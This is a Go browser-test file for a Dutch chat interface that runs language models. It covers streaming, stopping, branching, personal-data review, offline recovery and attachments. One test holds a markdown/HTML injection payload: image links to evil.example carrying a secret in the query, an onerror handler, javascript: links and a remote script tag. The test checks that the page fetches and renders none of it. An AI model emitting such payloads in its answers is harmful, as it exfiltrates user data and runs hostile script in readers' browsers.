package room

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"tekentafel/internal/guard"
	"tekentafel/internal/lab"
	"tekentafel/internal/ui/browsertest"
)

// press clicks without waiting for what the page fetches: an answer that streams keeps a request open.
func press(p *browsertest.Page, selector string) {
	browsertest.Eval[bool](p, `(document.querySelector(`+"`"+selector+"`"+`).click(), true)`)
}

// eventually waits until an expression holds in the page.
func eventually(t *testing.T, p *browsertest.Page, what, expression string) {
	t.Helper()
	for end := time.Now().Add(10 * time.Second); !browsertest.Eval[bool](p, "!!("+expression+")"); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(end) {
			t.Fatalf("%s: not within 10 s; the page says %.1500s", what, p.Text("main"))
		}
	}
}

func TestAnAnswerIsStoppedAndAskedAgain(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	s.models.answer, s.models.ended = says("Een lang antwoord "+strings.Repeat("met woorden ", 500), 10*time.Millisecond), make(chan error, 4)
	p := b.OpenURL(t, at+home, browsertest.View{Width: 360, Height: 740})
	p.Wait(".scripted")
	p.Fill("#room-text", "Vertel iets")
	press(p, "#room-send")
	eventually(t, p, "the answer begins", `document.querySelector(".say-assistant .say-text")?.textContent.includes("Een lang antwoord met")`)
	if p.Count("#room-send[hidden]") != 1 || p.Count("#room-stop:not([hidden])") != 1 {
		t.Error("while it answers one cannot stop it")
	}
	if got := p.Text("#room-status"); strings.Contains(got, "woorden") {
		t.Errorf("a screen reader is told each piece: %q", got)
	}
	if out := p.Violations(); len(out) > 0 {
		t.Errorf("while it answers: %s", strings.Join(out, "; "))
	}
	browsertest.Eval[bool](p, `(document.dispatchEvent(new KeyboardEvent("keydown", {key: "Escape", bubbles: true})), true)`)
	select {
	case err := <-s.models.ended:
		if err == nil {
			t.Error("the model was not told to stop")
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the model still writes")
	}
	p.Wait("#room-send:not([hidden])")
	if got := p.Text(".say-assistant"); !strings.Contains(got, "Een lang antwoord") || !strings.Contains(got, "Dit antwoord is niet af") {
		t.Errorf("what came is %q", got)
	}
	s.models.answer = says("Een ander antwoord", 0)
	p.Click(".say-assistant .say-do button:last-child")
	if got := p.Text(".say-assistant"); !strings.Contains(got, "Een ander antwoord") || !strings.Contains(got, "2 van 2") {
		t.Errorf("asked again, it says %q", got)
	}
	p.Click(".say-assistant .turns button")
	if got := p.Text(".say-assistant"); !strings.Contains(got, "Een lang antwoord") || !strings.Contains(got, "1 van 2") {
		t.Errorf("a step back it says %q", got)
	}
	if !browsertest.Eval[bool](p, `(() => { const e = new Event("beforeunload", {cancelable: true}); window.dispatchEvent(e); return e.defaultPrevented; })()`) {
		t.Error("one may leave a conversation that is not kept without a question")
	}
	// An earlier message is changed: the conversation branches, and the old way stays.
	p.Click(".say-user .say-do button")
	p.Fill("#room-text", "Vertel iets anders")
	p.Press("Shift+Enter")
	if got := browsertest.Eval[string](p, `document.getElementById("room-text").value`); got != "Vertel iets anders\n" {
		t.Errorf("Shift and Enter make %q", got)
	}
	p.Press("Enter")
	if got := p.Text(".say-user"); !strings.Contains(got, "Vertel iets anders") || !strings.Contains(got, "2 van 2") {
		t.Errorf("changed, it says %q", got)
	}
	sane(t, "branched", p, 360)
}

func TestTwoModelsStandBesideEachOther(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	s.models.answer = func(ctx context.Context, q *lab.Question, emit func(lab.Piece) error) (lab.Outcome, error) {
		return says("Antwoord van "+q.Model+". "+strings.Repeat("Nog een zin die de regel vult. ", 12), time.Millisecond)(ctx, q, emit)
	}
	for _, width := range []int64{360, 1280} {
		p := b.OpenURL(t, at+home, browsertest.View{Width: width, Height: 800})
		p.Wait(".scripted")
		p.Click(".composer-choices summary")
		p.Fill("#room-second", "beeld")
		p.Fill("#room-text", "Vergelijk")
		p.Click("#room-send")
		p.Wait("#room-send:not([hidden])")
		if got := p.Text(".beside"); !strings.Contains(got, "Antwoord van mistral") || !strings.Contains(got, "Antwoord van beeld") {
			t.Errorf("beside each other stands %q", got)
		}
		sane(t, "compared", p, width)
		browsertest.Eval[bool](p, `([...document.querySelectorAll(".beside .say-do button")].filter(b => b.textContent.startsWith("Ga hiermee")).pop().click(), true)`)
		if got := p.Text("#talk"); !strings.Contains(got, "Antwoord van beeld") || strings.Contains(got, "Antwoord van mistral") || !strings.Contains(got, "2 van 2") {
			t.Errorf("after one was chosen it says %q", got)
		}
		p.Fill("#room-second", "")
		p.Fill("#room-text", "Ga door")
		p.Click("#room-send")
		p.Wait("#room-send:not([hidden])")
		if q := s.models.last(); len(q.Messages) != 3 || !strings.Contains(q.Messages[1].Text, "beeld") {
			t.Errorf("it goes on from %+v", q.Messages)
		}
		p.Close()
	}
	// One of the two fails: the other stays.
	s.models.answer = func(ctx context.Context, q *lab.Question, emit func(lab.Piece) error) (lab.Outcome, error) {
		if q.Model == "beeld" {
			return lab.Outcome{}, &lab.Failure{Trouble: lab.Busy}
		}
		return says("Antwoord van "+q.Model, time.Millisecond)(ctx, q, emit)
	}
	p := b.OpenURL(t, at+home, browsertest.View{Width: 360, Height: 740})
	p.Wait(".scripted")
	p.Click(".composer-choices summary")
	p.Fill("#room-second", "beeld")
	p.Fill("#room-text", "Vergelijk")
	p.Click("#room-send")
	p.Wait("#room-send:not([hidden])")
	if got := p.Text("#talk"); !strings.Contains(got, "Antwoord van mistral") || !strings.Contains(got, "Het is druk bij het model") {
		t.Errorf("when one of two fails it says %q", got)
	}
}

func TestDecisionsShowWhatLeaves(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	s.models.answer = func(_ context.Context, _ *lab.Question, emit func(lab.Piece) error) (lab.Outcome, error) {
		return lab.Outcome{Masked: 1, Found: []guard.Type{guard.Phone}}, emit(lab.Piece{Text: "Bel **0471 98 76 54**."})
	}
	p := b.OpenURL(t, at+home, browsertest.View{Width: 360, Height: 740})
	p.Wait(".scripted")
	p.Fill("#room-text", "Schrijf An Peeters en Jan Janssens op 0470 12 34 56.")
	p.Click("#room-send")
	p.Wait("#review-title")
	if !browsertest.Eval[bool](p, `document.activeElement.id === "review-title"`) {
		t.Error("the focus does not go to what has to be decided")
	}
	p.Fill("#choice-0", "Het is openbaar")
	if got := p.Text("#review-leaves"); !strings.Contains(got, "An Peeters en [PERSOON-1]") {
		t.Errorf("with one name kept, what leaves is %q", got)
	}
	if !browsertest.Eval[bool](p, `document.activeElement.id === "choice-0"`) {
		t.Error("the focus is lost after a choice")
	}
	p.Click("#all-0")
	if got := p.Text("#review-leaves"); !strings.Contains(got, "An Peeters en Jan Janssens op [TELEFOON-1]") {
		t.Errorf("with all names kept, what leaves is %q", got)
	}
	sane(t, "decided", p, 360)
	// Rewrite goes to the place in the text.
	p.Click("#find-2 .find-do button")
	if got := browsertest.Eval[string](p, `(() => { const t = document.getElementById("room-text"); return t.value.slice(t.selectionStart, t.selectionEnd); })()`); got != "0470 12 34 56" {
		t.Errorf("what is selected is %q", got)
	}
	p.Click("#room-send")
	p.Click("#review-send")
	p.Wait(".say-found")
	if got := p.Text("#talk"); !strings.Contains(got, "1 gegeven vervangen") || !strings.Contains(got, "0471 98 76 54") {
		t.Errorf("it says %q", got)
	}
	if q := s.models.last(); len(q.Kept) != 2 {
		t.Errorf("the model is told %+v", q.Kept)
	}
	p.Click(".say-user summary")
	sane(t, "found", p, 360)
	p.Fill("#room-text", "Mijn wachtwoord: Zomer2026!x")
	p.Click("#room-send")
	p.Wait(".review-stop")
	if p.Count("#review-send") != 0 {
		t.Error("what is blocked can be sent")
	}
	sane(t, "blocked", p, 360)
	p.Press("Escape")
	p.Fill("#room-text", "Niets bijzonders")
	p.Click("#room-peek")
	if got := p.Text("#review-leaves"); got != "Niets bijzonders" {
		t.Errorf("what leaves is %q", got)
	}
}

func TestNothingWrittenIsLostWhenTheConnectionOrTheSessionEnds(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, out := s.listen()
	s.models.answer = says("Begin van een antwoord "+strings.Repeat("en nog ", 4000), 5*time.Millisecond)
	p := b.OpenURL(t, at+home, browsertest.View{Width: 360, Height: 740})
	p.Wait(".scripted")
	p.Fill("#room-text", "Vraag")
	press(p, "#room-send")
	eventually(t, p, "the answer begins", `document.querySelector(".say-assistant .say-text")?.textContent.includes("Begin van een antwoord")`)
	s.listener.CloseClientConnections()
	p.Wait(".say-fault")
	if got := p.Text(".say-assistant"); !strings.Contains(got, "Begin van een antwoord") || !strings.Contains(got, "verbinding viel weg") {
		t.Errorf("what came is %q", got)
	}
	p.Forget()
	s.models.answer = says("En het gaat verder", 0)
	p.Fill("#room-text", "Dit staat er al")
	p.Click(".say-assistant .say-note button")
	p.Wait("#room-send:not([hidden])")
	if got := browsertest.Eval[string](p, `document.getElementById("room-text").value`); got != "Dit staat er al" || s.models.last().Messages[2].Text != in("nl").say("js.go-on") {
		t.Errorf("it writes on after %+v, and the composer holds %q", s.models.last().Messages, got)
	}
	p.Offline(true)
	p.Fill("#room-text", "Tweede vraag")
	press(p, "#room-send")
	p.Wait(".room-notice")
	if got := browsertest.Eval[string](p, `document.getElementById("room-text").value`); got != "Tweede vraag" || !strings.Contains(p.Text(".room-notice"), "geen verbinding") {
		t.Errorf("offline the composer holds %q, and the page says %q", got, p.Text(".room-notice"))
	}
	p.Offline(false)
	out(true)
	p.Click("#room-send")
	p.Wait(".room-notice a")
	if got := browsertest.Eval[string](p, `document.getElementById("room-text").value`); got != "Tweede vraag" || !strings.Contains(p.Text(".room-notice"), "afgemeld") {
		t.Errorf("signed out the composer holds %q, and the page says %q", got, p.Text(".room-notice"))
	}
	out(false)
	p.Click("#room-send")
	p.Wait("#room-send:not([hidden])")
	if got := p.Text("#talk"); !strings.Contains(got, "En het gaat verder") || !strings.Contains(got, "Begin van een antwoord") {
		t.Errorf("after that it says %q", got)
	}
}

func TestMarkdownOfAModelFetchesNothing(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	const evil = "![x](https://evil.example/a.png?q=geheim) <img src=https://evil.example/b.png onerror=alert(1)>\n\n[![y](https://evil.example/c.png)](javascript:alert(1))\n\n<script src=https://evil.example/d.js></script>\n\n[klik](https://evil.example/e)\n\n![z][r]\n\n[r]: https://evil.example/f.png\n"
	s.models.answer = says(evil, time.Millisecond)
	for _, plain := range []bool{false, true} {
		p := b.OpenURL(t, at+home, browsertest.View{Width: 1280, Height: 800, NoJS: plain})
		p.Fill("#room-text", "Vraag")
		p.Click("#room-send")
		p.Wait(".say-assistant")
		for _, asked := range p.Requests() {
			if !strings.HasPrefix(asked, at) {
				t.Errorf("without scripts %v: %s was fetched", plain, asked)
			}
		}
		if p.Count(".say-text img, .say-text script, .say-text [onerror]") != 0 {
			t.Errorf("without scripts %v: the answer holds %s", plain, browsertest.Eval[string](p, `document.querySelector(".say-assistant .say-text").innerHTML`))
		}
		if out := p.Refused(); len(out) > 0 {
			t.Errorf("without scripts %v: the policy had to refuse %v", plain, out)
		}
		p.Close()
	}
}

func TestTheChatWorksWithoutScripts(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	for _, width := range []int64{360, 1280} {
		p := b.OpenURL(t, at+home, browsertest.View{Width: width, Height: 800, NoJS: true})
		sane(t, "plain-empty", p, width)
		p.Fill("#room-text", letter)
		p.Click("#room-send")
		p.Wait("#review-title")
		sane(t, "plain-review", p, width)
		p.Click("button[value=decide]")
		p.Wait(".say-assistant .md strong")
		p.Fill("#room-second", "beeld")
		p.Fill("#room-text", "En nog iets")
		p.Click("#room-send")
		p.Wait(".beside")
		sane(t, "plain-answered", p, width)
		p.Close()
	}
}

func TestFilesGoAlong(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t)
	s := newSite(t)
	at, _ := s.listen()
	folder := t.TempDir()
	nota, picture := filepath.Join(folder, "nota.txt"), filepath.Join(folder, "plan.png")
	for name, data := range map[string][]byte{nota: []byte("TEKST over An Peeters"), picture: pngOf(t, 60, 40)} {
		if err := os.WriteFile(name, data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	p := b.OpenURL(t, at+home, browsertest.View{Width: 360, Height: 740})
	p.Wait(".scripted")
	p.Attach("#room-file", nota, picture)
	p.Wait(".file-image")
	p.Click(".file-chip summary")
	if got := p.Text(".file-chip"); !strings.Contains(got, "TEKST over An Peeters") {
		t.Errorf("what was taken is shown as %q", got)
	}
	sane(t, "files", p, 360)
	p.Fill("#room-model", "beeld")
	p.Fill("#room-text", "Vat samen")
	p.Click("#room-send")
	p.Wait("#review-title")
	if got := p.Text("#room-review"); !strings.Contains(got, "In ‘nota.txt’") || !strings.Contains(got, "kijkt niet in afbeeldingen") {
		t.Errorf("the review says %q", got)
	}
	p.Click("#review-send")
	p.Wait(".say-assistant")
	if q := s.models.last(); len(q.Messages[0].Files) != 2 || q.Messages[0].Files[1].Media != mediaPNG {
		t.Errorf("the model gets %+v", q.Messages[0].Files)
	}
	p.Click("#room-after summary")
	p.Click("button[value=keep]")
	p.Wait(".notice-ok")
	sane(t, "kept", p, 360)
	if len(s.keeper.kept) != 1 {
		t.Error("nothing was kept")
	}
	if browsertest.Eval[bool](p, `(() => { const e = new Event("beforeunload", {cancelable: true}); window.dispatchEvent(e); return e.defaultPrevented; })()`) {
		t.Error("what is kept is asked about before one leaves")
	}
	p.Goto(at + home + "?kept=k1")
	p.Wait(".scripted .say-assistant")
	sane(t, "opened", p, 360)
}
